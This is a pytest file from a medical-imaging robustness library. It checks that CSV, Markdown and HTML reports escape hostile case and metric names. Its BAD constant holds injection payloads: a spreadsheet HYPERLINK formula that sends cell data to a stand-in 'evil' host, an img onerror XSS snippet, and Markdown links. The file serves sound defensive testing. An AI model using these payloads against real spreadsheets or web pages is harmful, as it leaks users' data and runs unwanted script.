# SPDX-License-Identifier: Apache-2.0
"""Reports of hostile names open as text: in a spreadsheet, in a Markdown renderer, and in a browser."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import docutils.nodes
import numpy as np
import pandas as pd
import pytest
from myst_parser.parsers.docutils_ import Parser as MarkdownParser

from monai_smia.bundle.report_files import write_report
from monai_smia.engines.batches import Failure
from monai_smia.reports import CLEAN, CaseView, Reading, RobustnessReport, report_markdown
from monai_smia.reports.finding import Finding
from monai_smia.reports.safe_text import FORMULA, as_code, csv_cell, csv_text, escaped

BAD = (
    '=HYPERLINK("http://evil/"&A1,"x")[a](http://evil)<img src=x onerror=alert(1)>`|![i](//evil) '
    "www.evil.com a@evil.com"
)


def report() -> RobustnessReport:
    """Every text of it is hostile."""
    run, case, metric = f"PGD {BAD}_5HU", f"{BAD}.nii.gz", f"dice {BAD}"
    rows: list[dict[str, Any]] = [
        {"attack": CLEAN, "case": case, metric: 0.9, f"site {BAD}": BAD},
        {"attack": run, "case": case, metric: -0.5, f"site {BAD}": BAD, "loss": -0.25, "largest_change": 5.0},
    ]
    metrics = {CLEAN: {metric: 0.9, "text": BAD}, run: {metric: -0.5, "text": BAD}}
    found = (Finding(f"c{BAD}", BAD, BAD, BAD, "error"),)
    return RobustnessReport(metrics, tuple(rows), {run: f"PGD(goal={BAD})"}, f"HU{BAD}", (), found)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def runs_in_a_spreadsheet(cell: str) -> bool:
    """By the first character alone, which is what spreadsheets go by; numbers are numbers."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA)
    return False


def test_no_csv_has_a_formula_and_numbers_stay(tmp_path: Path) -> None:
    report().save(tmp_path)
    for name in ("cases.csv", "robustness.csv"):
        found = cells((tmp_path / name).read_text())
        assert not [cell for cell in found if runs_in_a_spreadsheet(cell)]
        assert "-0.5" in found
    assert f"'{BAD}.nii.gz" in cells((tmp_path / "cases.csv").read_text())


@pytest.mark.parametrize("first", FORMULA)
def test_every_beginning_of_a_formula(first: str) -> None:
    assert csv_cell(f"{first}1+cmd") == f"'{first}1+cmd".replace("\r", "\n")
    assert csv_text(pd.DataFrame({"a": ["b\r=1+cmd"]})) == 'a\n"b\n=1+cmd"\n'  # a line break that is not quoted
    frame = pd.DataFrame({f"{first}x": [f"{first}y"], "n": [-0.5], "mixed": [-1]}, dtype=object)
    assert not [cell for cell in cells(csv_text(frame)) if runs_in_a_spreadsheet(cell)]


def test_numbers_and_plain_names_are_unchanged() -> None:
    values = ["a.nii", "", "a=b", "-0.5", "+1e-3", "-inf", -0.5, None, np.float64(-1), True]
    assert [csv_cell(value) for value in values] == values
    frame = pd.DataFrame({"case": ["a", "b"], "x": [-0.5, np.nan], "y": [1, -2]})
    assert csv_text(frame) == frame.to_csv(index=False)


def parsed(text: str) -> docutils.nodes.document:
    """By a CommonMark parser with tables and bare links, as on GitHub."""
    from docutils.frontend import get_default_settings
    from docutils.utils import new_document

    settings = get_default_settings(MarkdownParser)
    settings.myst_enable_extensions = {"linkify"} if _has_linkify() else set()
    settings.report_level = 5
    document = new_document("x", settings)
    MarkdownParser().parse(text, document)
    return document


def _has_linkify() -> bool:
    try:
        import linkify_it  # noqa: F401
    except ImportError:
        return False
    return True


def test_the_model_card_has_no_links_no_html_and_whole_tables() -> None:
    words = {BAD: BAD, "cases that failed": BAD}
    for text in (report_markdown(report(), words), report().to_markdown()):
        tree = parsed(text)
        for kind in (docutils.nodes.reference, docutils.nodes.image, docutils.nodes.raw, docutils.nodes.target):
            assert not list(tree.findall(kind)), kind
        for table in tree.findall(docutils.nodes.tgroup):
            widths = {len(row.children) for row in table.findall(docutils.nodes.row)}
            assert widths == {table["cols"]}
        prose = re.sub(r"(`+) .*? \1", "", text)  # without code
        assert not re.search(r"(?<!\\)://|www\.|(?<!\\)@", prose)  # which GitHub makes links of


def test_escaping_is_undone_by_reading() -> None:
    assert parsed(escaped(BAD)).astext() == BAD
    assert parsed(as_code(BAD)).astext() == BAD.replace("|", "\\|")  # a cell's border ends the escape, in tables only
    for plain in ("PGD_5HU", "largest_change [HU]", "mean Dice (1)", "a/b-c.nii.gz", "5 HU, 20 HU"):
        assert escaped(plain) == plain


class Tags(HTMLParser):
    """Tags with their attributes' names, of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))


def test_the_page_has_the_tags_of_one_with_plain_names(tmp_path: Path) -> None:
    image = np.zeros((1, 4, 4))
    run = next(iter(report().attacks))
    label = np.eye(4, dtype=int)
    view = CaseView(f"{BAD}.nii.gz", image, {run: image}, BAD, {run: BAD}, label, classes=(BAD, BAD))
    page = write_report(
        tmp_path,
        report(),
        views=[view],
        about={BAD: BAD},
        failures=[Failure(BAD, BAD, BAD)],
        title=BAD,
        reading=Reading(names={f"dice {BAD}": BAD}),
    )
    found = Tags(page.read_text()).found
    assert not [tag for tag, names in found if tag == "img" or any(name.startswith("on") for name in names)]
    assert {tag for tag, _ in found} <= ALLOWED
    assert 'href="http' not in page.read_text()


ALLOWED = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "nav", "section", "footer", "script"),
    *("h1", "h2", "h3", "p", "ul", "ol", "li", "a", "dl", "dt", "dd", "div", "span", "code", "strong", "noscript"),
    *("table", "caption", "thead", "tbody", "tr", "th", "td", "details", "summary", "figure", "figcaption", "canvas"),
    *("button", "label", "select", "option", "input", "output", "fieldset", "legend"),
    *("svg", "g", "path", "line", "text", "rect", "circle", "polyline", "polygon", "desc", "clippath", "defs"),
}
